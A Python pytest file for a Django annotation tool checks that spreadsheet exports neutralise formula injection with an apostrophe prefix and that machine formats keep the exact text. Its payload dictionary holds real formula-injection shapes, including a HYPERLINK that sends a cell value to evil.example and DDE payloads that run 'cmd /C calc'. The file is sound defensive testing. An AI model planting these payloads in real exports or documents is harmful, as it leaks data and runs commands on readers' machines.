"""Formula injection: spreadsheet exports (csv, scores, xlsx) never carry a live formula,
whichever field the hostile text came from; machine formats keep the exact text."""

from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from annotation import handout
from annotation.handout import Vote
from annotation.ingest.study_files import StudyOptions, import_study
from annotation.models import LanguageModel, MetricScore, Prompt, Response, Study
from tests.conftest import join, make_user

pytestmark = pytest.mark.django_db

# One payload per trigger character (OWASP's list), each a real attack shape.
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=2+2",
}
P = PAYLOADS
# OWASP's rule, written out here independently of annotation.exports.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture
def hostile(db, write_jsonl):
    """A pairwise study in which every text field that reaches an export holds a payload:
    study slug and name, prompt ids, texts and metadata (keys and values), model names,
    rating labels, tags, grader usernames, comments, and a metric's name."""
    records = [
        {
            "id": f"p{i}",
            "prompt": f"Prompt {i}",
            "metadata": {"language": "en", "note": "x"},
            "outputs": {"m1": f"one {i}", "m2": f"two {i}"},
        }
        for i in range(2)
    ]
    study = import_study(write_jsonl(records), "-evil", StudyOptions(overlap=2)).study
    Study.objects.filter(pk=study.pk).update(
        name=P["equals"],
        rating_scale=[P["minus"], P["at"], P["equals"]],
        good_labels=[P["equals"]],
        tags=[P["plus"], P["tab"]],
    )
    study.refresh_from_db()
    first, second = Prompt.objects.filter(study=study).order_by("external_id")
    for prompt, (pid, language) in zip(
        (first, second), ((P["equals"], P["cr"]), (P["at"], P["plus"])), strict=True
    ):
        prompt.external_id = pid
        prompt.text = P["minus"]
        prompt.metadata = {"language": language, P["at"]: P["tab"], "offset": "-0.5", "n": -3}
        prompt.save()
    LanguageModel.objects.filter(study=study, name="m1").update(name=P["equals"])
    LanguageModel.objects.filter(study=study, name="m2").update(name=P["plus"])
    graders = [make_user(P["at"], "grader"), make_user(P["minus"], "grader")]
    join(study, *graders)
    winner = Response.objects.get(prompt=first, model__name=P["equals"]).model_id
    for grader, comment in zip(graders, (P["equals"], P["cr"]), strict=True):
        while (assignment := handout.next_assignment(grader, study)) is not None:
            left = Response.objects.get(pk=handout.side_to_response(assignment)["left"])
            handout.record_vote(
                assignment.pk,
                grader,
                Vote(
                    verdict="left" if left.model_id == winner else "right",
                    ratings={"left": P["equals"], "right": P["minus"]},
                    tags={"left": [P["plus"]], "right": [P["tab"], P["plus"]]},
                    comment=comment,
                    seconds=2.5,
                ),
            )
    for response in Response.objects.filter(prompt__study=study):
        MetricScore.objects.create(response=response, metric=P["equals"], value=-0.5)
    return study


def export(tmp_path, fmt: str, *args: str) -> bytes:
    path = tmp_path / f"out.{fmt}"
    call_command(
        "export", "--study=-evil", "--format", fmt, "--output", str(path), *args,
        stderr=io.StringIO(),
    )  # fmt: skip
    return path.read_bytes()


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def runs_as_formula(text: str) -> bool:
    return text[:1] in FORMULA_TRIGGERS and not PLAIN_NUMBER.fullmatch(text)


@pytest.mark.parametrize("fmt", ["csv", "scores"])
def test_it_neutralises_every_csv_cell(hostile, tmp_path, fmt):
    rows = csv_cells(export(tmp_path, fmt))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > 1
    assert [cell for cell in cells if runs_as_formula(cell)] == []
    # The payloads are there, each behind OWASP's apostrophe, not dropped.
    expected = {"scores": {"equals", "at", "plus"}}.get(fmt, set(PAYLOADS))
    assert {name for name, text in PAYLOADS.items() if "'" + text in cells} == expected


def test_csv_neutralises_each_source_field(hostile, tmp_path):
    header, *body = csv_cells(export(tmp_path, "csv"))
    rows = [dict(zip(header, row, strict=True)) for row in body]
    assert len(rows) == 4  # 2 prompts x 1 pair x 2 graders
    quoted = {name: "'" + text for name, text in PAYLOADS.items()}
    assert {r["study"] for r in rows} == {"'-evil"}
    assert {r["prompt_id"] for r in rows} == {quoted["equals"], quoted["at"]}
    assert {r["model_a"] for r in rows} | {r["model_b"] for r in rows} == {
        quoted["equals"],
        quoted["plus"],
    }
    assert {r["grader"] for r in rows} == {quoted["at"], quoted["minus"]}
    assert {r["comment"] for r in rows} == {quoted["equals"], quoted["cr"]}
    assert {r["rating_a"] for r in rows} | {r["rating_b"] for r in rows} == {
        quoted["equals"],
        quoted["minus"],
    }
    assert {r["tags_a"] for r in rows} | {r["tags_b"] for r in rows} == {
        quoted["plus"],
        "'" + ";".join(sorted([P["tab"], P["plus"]])),
    }
    assert {r["meta_language"] for r in rows} == {quoted["cr"], quoted["plus"]}
    assert {r[f"meta_{P['at']}"] for r in rows} == {quoted["tab"]}
    # Numbers stay numbers: a plain-number text and a negative number are not touched.
    assert {r["meta_offset"] for r in rows} == {"-0.5"}
    assert {r["meta_n"] for r in rows} == {"-3"}
    assert {r["seconds"] for r in rows} == {"2.5"}


def test_scores_keep_negative_metric_values_as_numbers(hostile, tmp_path):
    frame = pd.read_csv(io.BytesIO(export(tmp_path, "scores")))
    assert "'" + P["equals"] in frame.columns
    assert frame["'" + P["equals"]].tolist() == [-0.5] * 4
    assert set(frame["model"]) == {"'" + P["equals"], "'" + P["plus"]}


def test_xlsx_has_no_formula_cell_and_keeps_the_exact_text(hostile, tmp_path):
    book = load_workbook(io.BytesIO(export(tmp_path, "xlsx", "--slice-by", "language")))
    assert len(book.sheetnames) == 4  # summary, judgments, and one per language
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_TRIGGERS:
                    assert cell.data_type == "s" and cell.quotePrefix, (
                        sheet.title,
                        cell.coordinate,
                    )
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # Excel shows the text as text (quote prefix), so the cell keeps its exact characters.
    assert {name for name, text in PAYLOADS.items() if text in texts} == set(PAYLOADS)
    judgments = book["judgments"]
    header = [cell.value for cell in judgments[1]]
    seconds = [row[header.index("seconds")] for row in judgments.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type) for cell in seconds} == {(2.5, "n")}
    n_column = [row[header.index("meta_n")] for row in judgments.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type) for cell in n_column} == {(-3, "n")}
    summary = {row[0].value: row[1].value for row in book["summary"].iter_rows() if row[0].value}
    assert summary["name"] == P["equals"] and summary["study"] == "-evil"


def test_xlsx_replaces_control_characters_instead_of_failing(hostile, tmp_path):
    Prompt.objects.filter(study=hostile).update(metadata={"language": "a\x01b"})
    book = load_workbook(io.BytesIO(export(tmp_path, "xlsx")))
    header = [cell.value for cell in book["judgments"][1]]
    values = {row[header.index("meta_language")].value for row in book["judgments"].iter_rows(2)}
    assert values == {"a\ufffdb"}


def test_machine_formats_keep_the_exact_text(hostile, tmp_path):
    lines = [json.loads(x) for x in export(tmp_path, "jsonl").decode().splitlines()]
    frame = pd.read_parquet(io.BytesIO(export(tmp_path, "parquet")))
    for records in (lines, frame.to_dict("records")):
        assert {r["study"] for r in records} == {"-evil"}
        assert {r["comment"] for r in records} == {P["equals"], P["cr"]}
        assert {r["grader"] for r in records} == {P["at"], P["minus"]}
        assert {r["prompt_id"] for r in records} == {P["equals"], P["at"]}
        assert {r["model_a"] for r in records} | {r["model_b"] for r in records} == {
            P["equals"],
            P["plus"],
        }
        assert {r["meta_language"] for r in records} == {P["cr"], P["plus"]}
    preferences = [json.loads(x) for x in export(tmp_path, "preferences").decode().splitlines()]
    assert preferences and {r["prompt"] for r in preferences} == {P["minus"]}
    assert {r["chosen_model"] for r in preferences} <= {P["equals"], P["plus"]}
    assert {r["prompt_id"] for r in preferences} == {P["equals"], P["at"]}
    arena = [json.loads(x) for x in export(tmp_path, "arena").decode().splitlines()]
    assert {r["judge"] for r in arena} == {P["at"], P["minus"]}
    assert {r["question_id"] for r in arena} == {P["equals"], P["at"]}
    assert {r["language"] for r in arena} == {P["cr"], P["plus"]}


def test_the_api_serves_the_same_neutralised_csv(hostile, client):
    researcher = make_user("rita", "researcher")
    join(hostile, researcher)
    client.force_login(researcher)
    response = client.get("/api/studies/-evil/exports/csv/")
    assert response.status_code == 200
    cells = [c for row in csv_cells(b"".join(response.streaming_content)) for c in row]
    assert [c for c in cells if runs_as_formula(c)] == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.5", "-0.5"),  # plain-number text is read as that number: nothing to run
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("-", "'-"),
        ("a=1", "a=1"),
        ("", ""),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_spreadsheet_text_follows_owasp(value, expected):
    from annotation.exports import spreadsheet_text

    assert spreadsheet_text(value) == expected
